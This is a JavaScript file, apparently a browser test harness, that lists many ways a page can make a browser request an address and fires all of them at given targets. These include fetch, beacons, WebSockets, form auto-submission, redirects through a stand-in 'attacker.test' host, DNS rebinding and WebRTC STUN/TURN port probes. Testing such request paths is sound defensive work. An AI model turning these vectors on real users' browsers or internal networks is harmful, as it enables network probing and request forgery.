// The ways in which a page makes a browser ask for an address; each ends when the browser has had its answer.
const vectors = (() => {
  const ended = (target, ...events) => new Promise((done) => events.forEach((event) => target.addEventListener(event, done)));
  const add = (tag, properties, where = document.body) => {
    const element = Object.assign(document.createElement(tag), properties);
    const end = ended(element, "load", "error", "loadedmetadata");
    where.append(element);
    return end;
  };
  const later = () => new Promise((done) => setTimeout(done, 300));
  const frame = (src) => add("iframe", { src });
  const here = (path, url) => `http://attacker.test/${path}?to=${encodeURIComponent(url)}`;
  const link = (rel, more = {}) => (href) => add("link", { rel, href, ...more }, document.head);
  const written = (html) => add("iframe", { srcdoc: html });
  return {
    image: (src) => add("img", { src }),
    iframe: frame,
    script: (src) => add("script", { src }, document.head),
    stylesheet: link("stylesheet"),
    prefetch: link("prefetch"),
    preload: link("preload", { as: "fetch" }),
    css: (url) => { document.body.style.backgroundImage += `${document.body.style.backgroundImage && ","}url("${url}")`; return later(); },
    font: (url) => new FontFace("x", `url("${url}")`).load(),
    object: (data) => add("object", { data }),
    video: (src) => add("video", { src }),
    fetch: (url) => fetch(url, { mode: "no-cors" }),
    keepalive: (url) => fetch(url, { mode: "no-cors", keepalive: true, method: "POST", body: "x" }),
    xhr: (url) => { const request = new XMLHttpRequest(); request.open("GET", url); const end = ended(request, "loadend"); request.send(); return end; },
    beacon: (url) => { navigator.sendBeacon(url, "x"); return later(); },
    events: (url) => ended(new EventSource(url), "open", "error"),
    websocket: (url) => ended(new WebSocket(url.replace("http", "ws")), "open", "error", "close"),
    worker: (url) => ended(new Worker(URL.createObjectURL(new Blob([`try { importScripts(${JSON.stringify(url)}) } catch { } postMessage(1)`]))), "message"),
    redirect: (url) => frame(here("redirect", url)),
    redirected_image: (url) => add("img", { src: here("redirect", url) }),
    redirected_fetch: (url) => fetch(here("redirect", url), { mode: "no-cors" }),
    meta_refresh: (url) => frame(here("refresh", url)).then(() => later()),
    script_move: (url) => frame(here("move", url)).then(() => later()),
    form: (url) => {
      const inputs = [...new URL(url).searchParams].map(([name, value]) => `<input name="${name}" value="${value}">`);
      return written(`<form action="${url}">${inputs.join("")}</form><script>document.forms[0].submit()<\/script>`).then(later);
    },
    rebinding: async (url) => {
      const again = url.replace(/\/\/.*?:(\d+)\//, `//rebind-${crypto.getRandomValues(new Uint32Array(1))[0]}.test:$1/`);
      await fetch(again, { mode: "no-cors" });
      await fetch(again, { mode: "no-cors" });
    },
    rtc: async (url) => {
      const [, host, port] = url.match(/\/\/(?:.*@)?(.*?):(\d+)\//);
      const iceServers = [{ urls: `stun:${host}:${port}` },
        ...["udp", "tcp"].map((way) => ({ urls: `turn:${host}:${port}?transport=${way}`, username: "x", credential: "x" }))];
      const [peer, other] = [new RTCPeerConnection({ iceServers }), new RTCPeerConnection()];
      peer.createDataChannel("x");
      await peer.setLocalDescription();
      await other.setRemoteDescription(peer.localDescription);
      await other.setLocalDescription();
      await peer.setRemoteDescription(other.localDescription);
      for (const way of ["udp 1 ", "tcp 1 "])
        peer.addIceCandidate({ candidate: `candidate:1 1 ${way}${host} ${port} typ host`, sdpMid: "0" }).catch(() => null);
      await later();
      await later();
    },
    popup: (url) => { open(url); return later(); },
  };
})();

const attempt = async (targets, names) => {
  const limit = () => new Promise((done) => setTimeout(done, 2500));
  const tries = targets.flatMap(([form, url]) => names.map(async (name) => {
    try { await Promise.race([vectors[name](url.replace("VECTOR", name)), limit()]); } catch { /* refused */ }
  }));
  await Promise.all(tries);
  document.title = "Report";
  document.getElementById("state").outerHTML =
    `<p>Every way has been tried by now.</p><dl><dt>Attempts</dt><dd>${tries.length}</dd></dl>`;
};
